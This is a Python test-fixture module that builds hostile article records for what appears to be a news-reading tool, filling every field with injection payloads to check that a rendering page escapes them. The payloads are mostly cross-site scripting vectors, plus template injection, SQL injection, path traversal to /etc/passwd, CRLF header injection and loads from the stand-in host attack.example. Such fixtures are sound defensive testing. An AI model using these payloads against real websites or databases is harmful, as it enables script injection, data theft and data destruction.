"""Articles whose every field is made to run, load or break something in a page that shows them.

All are of our own making and follow from a seed. What would run sets `pwned`; what would be an
element of theirs has the attribute `theirs`; what would be fetched lies at a host of its own.
"""

from __future__ import annotations

import hashlib
import random

from dragoman.article import Article, Paragraph, SourceTag, Span
from dragoman.records import (
    Condition,
    Event,
    Reading,
    Speaker,
    Statement,
    SummarySentence,
    record_id,
)

HOST = "//attack.example/"
RUN = "window.pwned=1"
ASK = f"fetch('{HOST}')"

SCRIPTS = (
    f"<script theirs>{RUN}</script>",
    f"<ScRiPt/theirs>{RUN}//",
    f"<script theirs src={HOST}x.js></script>",
    f'<script theirs type=module>import "{HOST}x.js"</script>',
    f"<<script theirs>{RUN}//<</script>",
    f"<script\x0ctheirs>{RUN}</script\x00>",
    f"<scr<script>ipt theirs>{RUN}</scr</script>ipt>",
    f"<noscript><p title='</noscript><img theirs src=x onerror={RUN}>'>",
    f"<template theirs><script>{RUN}</script></template>",
)
HANDLERS = (
    f"<img theirs src=x onerror={RUN}>",
    f'<img theirs src="{HOST}a.png" onload="{RUN}">',
    f"<body theirs onload={RUN}>",
    f"<details theirs open ontoggle={RUN}>",
    f"<input theirs autofocus onfocus={RUN}>",
    f"<video theirs><source onerror={RUN}></video>",
    f"<audio theirs src={HOST}a onerror={RUN}>",
    f"<marquee theirs onstart={RUN}>go</marquee>",
    f"<p theirs onpointerover={RUN} style='position:fixed;inset:0'>over</p>",
    f"<b theirs hx-on:load='{RUN}' hx-get='{HOST}' hx-trigger=load>b</b>",
    f"<div theirs data-hx-on::load={RUN}>d</div>",
)
DRAWN = (
    f"<svg theirs onload={RUN}>",
    f"<svg theirs><script>{RUN}</script></svg>",
    f"<svg theirs><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg theirs><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
    f"<svg theirs><use href='data:image/svg+xml,<svg id=x onload={RUN}/>#x'/></svg>",
    f"<svg theirs><foreignObject><iframe srcdoc='<script>{RUN}</script>'>",
    f"<math theirs><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<math theirs href='javascript:{RUN}'>x</math>",
    f"<svg theirs><style><img src=x onerror={RUN}></style></svg>",
)
LINKS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" \x01javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript://attack.example/%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    f"vbscript:{RUN}",
    f"view-source:{HOST}",
    f'https://attack.example/" onmouseover="{RUN}" x="',
    f"http://attack.example/'><img theirs src=x onerror={RUN}>",
    "https://user:pass@attack.example@127.0.0.1/",
    "//attack.example/%2e%2e/",
    "\\\\attack.example\\share",
    f"<a theirs href='javascript:{RUN}'>a</a>",
    f"<a theirs href={HOST} ping={HOST}>a</a>",
    "file:///etc/passwd",
    f"blob:http://127.0.0.1/{RUN}",
)
FRAMES = (
    "<iframe theirs src='javascript:parent.pwned=1'></iframe>",
    f'<iframe theirs srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<object theirs data='{HOST}x.swf'></object>",
    f"<embed theirs src='{HOST}x'>",
    f"<base theirs href='{HOST}'>",
    f"<meta theirs http-equiv=refresh content='0;url={HOST}'>",
    "<meta theirs http-equiv=Set-Cookie content='a=b'>",
    f"<link theirs rel=stylesheet href={HOST}x.css>",
    f"<link theirs rel=prefetch href={HOST}x>",
    f"<form theirs action={HOST}><button autofocus>Sign</button></form>",
    f"<button theirs formaction=javascript:{RUN} form=q>x</button>",
    f"<frameset theirs onload={RUN}><frame src={HOST}>",
    f"<portal theirs src={HOST}></portal>",
)
STYLES = (
    f"<style theirs>@import '{HOST}x.css';*{{background:url({HOST}y)}}</style>",
    f"<p theirs style='background:url({HOST}z)'>styled</p>",
    f"}}*{{background:url({HOST}c)}}",
    f"url({HOST}c);expression({RUN})",
    "</style><style theirs>main{display:none}</style>",
    f"red;background-image:url('{HOST}')",
)
BREAKS = (
    f'"><script theirs>{RUN}</script>',
    f"'><img theirs src=x onerror={RUN}>",
    f'" autofocus onfocus="{RUN}" theirs="',
    f"' onclick='{RUN}' theirs='",
    f"--><script theirs>{RUN}</script><!--",
    f"</title></head><body><script theirs>{RUN}</script>",
    f"</textarea><img theirs src=x onerror={RUN}>",
    f"</script><script theirs>{RUN}</script>",
    f"]]><script theirs>{RUN}</script><![CDATA[",
    f'<!--<img theirs src="--><img theirs src=x onerror={RUN}//">',
    f"`;{RUN};`${{{RUN}}}",
    f'\\";{RUN};//',
    "</main></body></html><h1 theirs>Another page</h1>",
    "</a></p></td></tr></table><b theirs>b</b>",
    "<plaintext theirs>",
    "<table theirs><tr><td>",
    "&quot; theirs &#34; &#x22;",
)
ENTITIES = (
    f"&lt;script theirs&gt;{RUN}&lt;/script&gt;",
    f"&amp;lt;img theirs src=x onerror={RUN}&amp;gt;",
    f"&#60;img theirs src=x onerror={RUN}&#62;",
    f"&#x3c;script&#x3e;{RUN}&#x3c;/script",
    f"&LT;img theirs onerror={RUN} src=x&GT",
    "&#0;&#xD800;&#x110000;&bogus;&amp&&&;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"＜script theirs＞{RUN}＜/script＞",
    f"+ADw-script theirs+AD4-{RUN}+ADw-/script+AD4-",
)
TEMPLATES = (
    "{{7*7}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{{ request.state.access.forms }}",
    "{{''|attr('__class__')}}",
    "{# {{config}} #}",
    "${7*7} #{7*7} <%= 7*7 %> @(7*7)",
    "{{asked.having(side='x').at('//attack.example')}}",
    "%(words)s {0.__class__} {words!r}",
    "'; DROP TABLE statements; --",
    '" OR 1=1 --',
    '=HYPERLINK("http://attack.example/","x")',
    "../../../../etc/passwd%00",
    "\r\nSet-Cookie: a=b\r\n\r\n<script theirs>1</script>",
)
UNICODE = (
    "\u202e\u2066gnirts a si siht\u2069\u202c",
    "\u202egnp.exe",
    "\u2067\u2067\u2067<b theirs>\u2069",
    "\u200b\u200c\u200d\u2060\ufeff",
    f"<\u200bscript theirs>{RUN}</\u200bscript>",
    "РаураӀ аnd ᎪΡΡLΕ and ⅽοⅿ",
    "Z" + "\u0301\u0316\u0335\u20dd" * 400,
    "𒐫﷽꧅" * 40,
    "👩‍👩‍👧‍👦🏳️‍🌈🇫🇷" * 30,
    "\U000e0041\U000e0042\U0010ffff\ufffe\uffff",
    "W" * 3_000,
    "\u3164\u115f\u00ad\u2028\u2029\u0085",
    "אבג" + "\u202d" + "abc" + "דהו" * 100,
    "\x1b[31m\x07\x08\x7f\x9b",
    "ﷺ" * 300,
)
FAMILIES = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "drawn": DRAWN,
    "links": LINKS,
    "frames": FRAMES,
    "styles": STYLES,
    "breaks": BREAKS,
    "entities": ENTITIES,
    "templates": TEMPLATES,
    "unicode": UNICODE,
}
_ROUND = ("{}", '"{}', "'{}", "“{}”", "</title>{}", "--> {}", "x\u202e{}", "<b theirs>{}", "&{};")


def attacks(count: int = 200, seed: int = 0) -> list[str]:
    """Return as many different attacks: each once as it is, then in or behind something else."""
    chance = random.Random(seed)
    plain = [one for family in FAMILIES.values() for one in family]
    made = dict.fromkeys(plain)
    while len(made) < count:
        one, other = chance.choice(plain), chance.choice(plain)
        joined = chance.choice((one, one, one + other))
        if len(joined) < 5_000:
            made[chance.choice(_ROUND).replace("{}", joined)] = None
    return list(made)[:count]


class _Text:
    """An article's text as it grows, whose pieces are told by where they stand."""

    def __init__(self) -> None:
        self.words = ""
        self.paragraphs: list[Paragraph] = []

    def put(self, words: str) -> Span:
        start = len(self.words)
        self.words += words
        return Span(start, len(self.words))

    def end(self, sort: str = "body") -> None:
        start = self.paragraphs[-1].span.end if self.paragraphs else 0
        self.words += "\n\n"
        self.paragraphs.append(Paragraph(Span(start, len(self.words)), sort))  # type: ignore[arg-type]


def hostile(number: int, attack: str) -> Reading:
    """Return a reading in which every field that a text can fill is filled with an attack."""
    text, line = _Text(), " ".join(attack.split()) or "blank"
    title = text.put(line)
    text.end("title")
    source = text.put(f"Speaker {number} {attack}")
    cue = text.put(" said ")
    act = text.put(f"they do {attack} at once")
    between = text.put(", and ")
    matter = text.put(f"matter {attack}")
    text.put(". ")
    anchor = text.put(f"struck {attack}")
    text.end()
    text.put(attack)
    text.end("furniture")
    whole = Span(act.start, matter.end)
    speaker = Speaker(f"Speaker {number} {line}", f"role {line}", f"Land {number} {line}", "person")
    said = Statement(
        id=record_id("s", *whole, set()),
        source=source,
        cue=cue,
        content=(whole,),
        kind="direct" if number % 2 else "indirect",
        speaker=speaker,
        speakers=(speaker, Speaker(f"Other {number} {line}", line, None, "organisation")),
        side=f"Land {number} {line}" if number % 4 else "VAL",
        via=(f"Agency {line}", line),
        said=f"2031-03-{number % 28 + 1:02}",
        cue_kind="assert",
        stance=("rejects", "defers", "conditional", "open", "supports")[number % 5],
        stance_cue=between,
        scope=line[:200],
        matter=f"matter {line}" if number % 3 else "the lake treaty",
        matter_span=matter,
        confidence=0.9,
        rule=line[:100],
        cue_lemma=line[:100],
        factivity="doubting",
        hedge=cue,
        anonymity="asked",
        anonymity_words=source,
    )
    asked = Condition(
        id=record_id("c", *act, set()),
        statement=said.id,
        kind="precondition",
        act=act,
        actor=f"Land {number} {line}" if number % 2 else "VAL",
        outcome=matter,
        cue=between,
        rule=line[:100],
    )
    happened = Event(
        id=record_id("e", *anchor, set()),
        type="ASSAULT",
        anchor=anchor,
        source=(f"Land {number} {line}", line),
        target=(line,),
        status="happened",
        date=f"2031-03-{number % 28 + 1:02}",
        statement=said.id,
        rule=line[:100],
    )
    raw = text.words.encode()
    article = Article(
        name=f"{number} {line}",
        origin=attack,
        raw_sha256=hashlib.sha256(raw).hexdigest(),
        text=text.words,
        paragraphs=tuple(text.paragraphs),
        title=line,
        outlet=f"Outlet {number} {line}",
        url=attack,
        byline=line,
        issuer=line,
        published=f"2031-04-{number % 28 + 1:02}",
        retrieved="2031-04-30T10:00:00+00:00",
        language=line[:40] if number % 5 == 0 else "en",
        source_tags=(SourceTag(title, line),),
        warnings=(line,),
        raw=raw,
    )
    return Reading(
        article=article,
        reader="hostile",
        model="none 0",
        statements=(said,),
        conditions=(asked,),
        events=(happened,),
        summary=(SummarySentence(f"Summary {line}", (whole, anchor)),),
        warnings=(line,),
    )
